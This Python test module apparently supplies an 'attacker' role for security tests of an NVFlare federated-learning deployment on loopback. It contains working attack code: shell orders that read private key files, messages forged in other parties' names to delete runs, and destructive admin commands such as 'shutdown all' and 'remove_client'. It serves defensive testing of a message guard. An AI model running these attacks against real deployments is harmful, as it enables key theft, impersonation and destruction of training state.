"""An intruder with a good kit: NVFlare's own client, admin client or server, without a guard, that writes to anybody.

    python -m tests.network.attacker peer|scientist|aggregator KIT FOLDER
    python -m tests.network.attacker impostor KIT FOLDER NAME

It connects as its kit allows, writes FOLDER/ready, and then attacks whom FOLDER/attack-N.json names, with every channel
and topic that NVFlare's source has; what came back is in FOLDER/answers-N.json. For tests on loopback.
"""

import json
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from types import SimpleNamespace
from typing import Any

SECONDS = 6.0  # for an answer
NOTHING = ("timeout", "comm_error", "target_unreachable", "msg_too_big", "invalid_target")
SHELL = ("ls", "head -n 2 startup/client.key", "cat local/resources.json", "tail -n 3 {table}", "pwd")
COMMANDS = (  # one of each kind: all names that NVFlare has are judged in test_guard.py
    *("cat server startup/server.key", "head south startup/client.key", "ls south", "shutdown all", "restart client"),
    *(
        "delete_job state",
        "remove_client south",
        "configure_site_log server DEBUG",
        "report_env",
        "show_errors x server",
    ),
)
Try = tuple[str, str, str, Any, dict[str, Any]]  # target, channel, topic, payload, headers


def tries(target: str, table: str, known: dict[str, Any]) -> Iterator[Try]:
    """Every message that NVFlare might take, to one target; ``known`` is what its source says."""
    from nvflare.apis.shareable import Shareable
    from nvflare.private.admin_defs import Message

    for topic in known["orders"]:
        for body in SHELL if topic == "sys.shell" else ("",):
            for job in ("state", "startup"):
                for envelope in ("admin", topic):  # what stands on the envelope need not be what is in it
                    order = Message(topic=topic, body=body.format(table=table))
                    order.set_headers({"job_id": job, "job_meta": {"job_id": job}, "app_name": "app"})
                    yield target, "admin", envelope, order, {}
    for channel, topic in known["pairs"]:
        yield target, channel, topic, {} if channel == "_net_manager" else Shareable(), {}


def attack(cell: Any, asked: dict[str, Any]) -> list[dict[str, Any]]:
    """Send all of it, also in the names of others, and return what came back."""
    targets = asked["targets"]
    found = [one for target in targets for one in tries(target, asked["table"], asked["known"])]
    reading = [one for one in found if getattr(one[3], "topic", "").startswith("sys.")]
    answers = []
    for part in (reading, [one for one in found if one not in reading]):  # what is deleted cannot be read any more
        with ThreadPoolExecutor(500) as pool:  # most wait for an answer that never comes
            answers += list(pool.map(lambda one: _send(cell, one), part))
    for target in targets:
        for claim in asked["claims"]:
            _forged(cell, target, claim)
    return [answer for answer in answers if answer is not None]


def _send(cell: Any, one: Try) -> dict[str, Any] | None:
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
    from nvflare.fuel.f3.cellnet.utils import new_cell_message

    target, channel, topic, payload, headers = one
    try:
        request = new_cell_message(dict(headers), payload)
        reply = cell.core_cell.send_request(channel, topic, target, request, timeout=SECONDS, optional=True)
    except Exception as error:
        return {"error": repr(error)[:200], "target": target, "channel": channel, "topic": topic}
    code = reply.get_header(MessageHeaderKey.RETURN_CODE)
    if code in NOTHING:
        return None
    inner = getattr(payload, "topic", "")
    body = getattr(reply.payload, "body", reply.payload)
    return {
        "target": target,
        "channel": channel,
        "topic": topic,
        "inner": inner,
        "code": code,
        "body": repr(body)[:300],
    }


def _forged(cell: Any, target: str, claim: str) -> None:
    """Send an order in another's name, straight over the line; there is nobody whom an answer would reach."""
    from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey as K
    from nvflare.fuel.f3.cellnet.utils import encode_payload, new_cell_message
    from nvflare.private.admin_defs import Message

    order = Message(topic="train.delete_run", body="")
    order.set_headers({"job_id": "state"})
    core = cell.core_cell
    headers = {K.MSG_TYPE: "req", K.ORIGIN: claim, K.DESTINATION: target, K.CHANNEL: "admin", K.TOPIC: "admin"}
    forged = new_cell_message(
        {**headers, K.REQ_ID: "x", K.REPLY_EXPECTED: False, K.ROUTE: [(claim, time.time())]}, order
    )
    encode_payload(forged, fobs_ctx=core.get_fobs_context())
    for agent in list(core.agents.values()):
        core.communicator.send(agent.endpoint, core.APP_ID, forged)


def serve(cell: Any, folder: Path, more: Callable[[], list[Any]] = list) -> None:
    """Attack whenever a file says so, until the process is ended."""
    (folder / "ready").touch()
    number = 0
    while True:
        asked = folder / f"attack-{number}.json"
        if not asked.exists():
            time.sleep(0.2)
            continue
        answers = attack(cell, json.loads(asked.read_bytes()))
        draft = folder / "draft"
        draft.write_text(json.dumps(answers + more()))
        draft.replace(folder / f"answers-{number}.json")
        number += 1


def peer(kit: str, folder: Path) -> None:
    """NVFlare's client with a party's kit."""
    from nvflare.fuel.f3.mpm import MainProcessMonitor
    from nvflare.private.fed.app.client import client_train

    make = client_train.create_admin_agent

    def made(*args: Any) -> Any:
        agent = make(*args)
        threading.Thread(target=serve, args=(agent.cell, folder), daemon=True).start()
        return agent

    client_train.create_admin_agent = made
    name = Path(kit).name
    own = ["secure_train=true", "config_folder=config", f"uid={name}", f"org={name}", "heart_beat_interval=3"]
    sys.argv = ["client_train", "-m", kit, "-s", "fed_client.json", "--set", *own]
    arguments = client_train.parse_arguments()
    MainProcessMonitor.run(client_train.main, run_dir=kit, args=arguments)


def impostor(kit: str, folder: Path, claim: str) -> None:
    """A cell of NVFlare's with a party's kit, that says to be somebody else, and does not go away when refused."""
    from nvflare.fuel.f3.cellnet.core_cell import CoreCell

    startup = Path(kit) / "startup"
    document = json.loads((startup / "fed_client.json").read_bytes())
    address = document["servers"][0]["service"]
    files = {"ca_cert": "rootCA.pem", "client_cert": "client.crt", "client_key": "client.key"}
    credentials = {key: str(startup / name) for key, name in files.items()}
    url = f"{address['scheme']}://{address['target']}"
    cell = CoreCell(fqcn=claim, root_url=url, secure=True, credentials=credentials)
    cell.start()
    serve(SimpleNamespace(core_cell=cell), folder)


def aggregator(kit: str, folder: Path) -> None:
    """NVFlare's server with the aggregator's kit."""
    from nvflare.fuel.f3.mpm import MainProcessMonitor
    from nvflare.private.fed.app.server import server_train

    make = server_train.create_admin_server

    def made(services: Any, *args: Any, **kwargs: Any) -> Any:
        threading.Thread(target=serve, args=(services.cell, folder), daemon=True).start()
        return make(services, *args, **kwargs)

    server_train.create_admin_server = made
    own = ["secure_train=true", "config_folder=config", "org=aggregator"]
    sys.argv = ["server_train", "-m", kit, "-s", "fed_server.json", "--set", *own]
    arguments = server_train.parse_arguments()
    MainProcessMonitor.run(server_train.main, run_dir=kit, args=arguments)


def scientist(kit: str, folder: Path) -> None:
    """NVFlare's admin client with the scientist's kit: messages and commands."""
    from nvflare.fuel.flare_api.flare_api import new_secure_session

    from flora.engines.nvflare.consortium import USER

    api = new_secure_session(USER, kit, timeout=30.0)

    def commands() -> list[Any]:
        return [{"command": command, "body": repr(api.api.server_execute(command))[:400]} for command in COMMANDS]

    serve(api.api.cell, folder, commands)


if __name__ == "__main__":
    roles: dict[str, Callable[..., None]] = {
        "peer": peer,
        "scientist": scientist,
        "aggregator": aggregator,
        "impostor": impostor,
    }
    roles[sys.argv[1]](sys.argv[2], Path(sys.argv[3]), *sys.argv[4:])
